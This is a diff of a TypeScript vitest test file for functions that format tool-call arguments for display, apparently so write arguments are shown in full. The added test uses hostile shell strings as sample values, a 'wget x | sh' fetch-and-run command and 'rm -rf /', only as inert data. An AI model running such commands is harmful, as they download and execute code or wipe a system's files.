@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { argsLine, resultLine } from './call-line.ts'
+import { argsLine, argsText, resultLine } from './call-line.ts'
 
 test.each([
   [{ resource_type: 'pods', namespace: 'shop' }, 'pods shop'],
@@ -12,6 +12,12 @@ test.each([
   [['a'], ''],
 ])('%j is %j', (args, line) => {
   expect(argsLine(args)).toBe(line)
+})
+
+test('a name hides nothing of what would be written', () => {
+  const args = { name: 'web', password: 'sh -c "wget x | sh"', api_token: { run: 'rm -rf /' } }
+  expect(argsLine(args, { isOfWrite: true })).toBe('web password=sh -c "wget x | sh" api_token={"run":"rm -rf /"}')
+  expect(argsText(args)).toBe('name=web password=sh -c "wget x | sh" api_token={\n  "run": "rm -rf /"\n}')
 })
 
 const text = (...texts: string[]) => texts.map((it) => ({ type: 'text', text: it }))
